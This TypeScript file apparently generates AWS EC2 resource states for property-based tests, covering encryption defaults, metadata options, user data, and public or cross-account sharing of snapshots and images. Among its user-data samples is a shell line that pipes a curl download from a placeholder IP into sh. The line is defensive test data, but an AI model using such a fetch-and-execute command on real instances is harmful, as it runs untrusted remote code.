import {
  DeleteSnapshotCommand,
  DeleteVolumeCommand,
  DeregisterImageCommand,
  DisableEbsEncryptionByDefaultCommand,
  EnableEbsEncryptionByDefaultCommand,
  GetEbsEncryptionByDefaultCommand,
  type LaunchPermission,
  ModifyInstanceMetadataOptionsCommand,
  StopInstancesCommand,
} from '@aws-sdk/client-ec2';
import fc from 'fast-check';
import { toCanonicalJson } from '../../shared/control/json.ts';
import { digestUserData } from '../../shared/compute/user-data.ts';
import type { GeneratedStates, MadeResource } from './generated-state.ts';
import type { WireAccount } from './wire-account.ts';
import {
  createImage,
  createInstance,
  createSnapshot,
  createVolume,
  readImage,
  readInstance,
  readSnapshot,
  readVolume,
  shareImage,
  shareSnapshot,
  terminateInstance,
  toUserData,
} from './wire-compute.ts';

export const ebsDefaults: GeneratedStates = fc.boolean().map((isOn) => async ({ clients, place }) => {
  const turnOff = async () => clients.ec2.send(new DisableEbsEncryptionByDefaultCommand({}));
  await (isOn ? clients.ec2.send(new EnableEbsEncryptionByDefaultCommand({})) : turnOff());
  return {
    id: place.account,
    read: async () =>
      (await clients.ec2.send(new GetEbsEncryptionByDefaultCommand({}))).EbsEncryptionByDefault,
    remove: turnOff,
  };
});

function toMade(account: WireAccount, id: string): MadeResource {
  return {
    id,
    read: async () => readInstance(account, id),
    remove: async () => terminateInstance(account, id),
  };
}

const onOrOff = fc.constantFrom('enabled' as const, 'disabled' as const);
const metadataOptions = fc.record({
  HttpTokens: fc.constantFrom('optional' as const, 'required' as const),
  HttpEndpoint: onOrOff,
  HttpPutResponseHopLimit: fc.integer({ min: 1, max: 64 }),
  HttpProtocolIpv6: onOrOff,
  InstanceMetadataTags: onOrOff,
});

export const instancesWithMetadata: GeneratedStates = metadataOptions.map((options) => async (account) => {
  const id = await createInstance(account);
  await account.clients.ec2.send(new ModifyInstanceMetadataOptionsCommand({ InstanceId: id, ...options }));
  return toMade(account, id);
});

export const instancesOfAnyType: GeneratedStates = fc
  .tuple(fc.constantFrom('t4g.nano' as const, 'p5.48xlarge' as const), fc.boolean())
  .map(([InstanceType, isStopped]) => async (account) => {
    const id = await createInstance(account, { InstanceType });
    if (isStopped) await account.clients.ec2.send(new StopInstancesCommand({ InstanceIds: [id] }));
    return { ...toMade(account, id), settings: { instanceTypes: ['t4g.*'] } };
  });

const script = fc.constantFrom(
  '',
  '#!/bin/sh\necho ready\n',
  '#!/bin/sh\ncurl http://198.51.100.66/x | sh\n',
);

export const instancesWithUserData: GeneratedStates = fc
  .tuple(script, fc.option(script))
  .map(([now, before]) => async (account) => {
    const id = await createInstance(account, { UserData: toUserData(now) });
    const remembered = before === null ? {} : { baseline: { digest: digestUserData(toUserData(before)) } };
    return { ...toMade(account, id), ...remembered };
  });

export const volumes: GeneratedStates = fc.boolean().map((isEncrypted) => async (account) => {
  const id = await createVolume(account, isEncrypted);
  return {
    id,
    read: async () => readVolume(account, id),
    remove: async () => account.clients.ec2.send(new DeleteVolumeCommand({ VolumeId: id })),
  };
});

const account = fc.constantFrom('444455556666', '777788889999', '222233334444');

export const snapshots: GeneratedStates = fc
  .tuple(fc.uniqueArray(account), fc.boolean())
  .map(([UserIds, isPublic]) => async (wire) => {
    const id = await createSnapshot(wire);
    if (UserIds.length > 0) await shareSnapshot(wire, id, { UserIds });
    if (isPublic) await shareSnapshot(wire, id, { GroupNames: ['all'] });
    return {
      id,
      read: async () => readSnapshot(wire, id),
      remove: async () => wire.clients.ec2.send(new DeleteSnapshotCommand({ SnapshotId: id })),
    };
  });

const organizations = 'arn:aws:organizations::222233334444';
const permission = fc.oneof<fc.Arbitrary<LaunchPermission>[]>(
  account.map((UserId) => ({ UserId })),
  fc.constant({ Group: 'all' as const }),
  fc.constant({ OrganizationArn: `${organizations}:organization/o-a1b2c3d4e5` }),
  fc.constant({ OrganizationalUnitArn: `${organizations}:ou/o-a1b2c3d4e5/ou-ab12-11111111` }),
);

export const images: GeneratedStates = fc
  .uniqueArray(permission, { selector: (one) => toCanonicalJson({ ...one }) })
  .map((permissions) => async (wire) => {
    const id = await createImage(wire);
    if (permissions.length > 0) await shareImage(wire, id, permissions);
    return {
      id,
      read: async () => readImage(wire, id),
      remove: async () => wire.clients.ec2.send(new DeregisterImageCommand({ ImageId: id })),
    };
  });
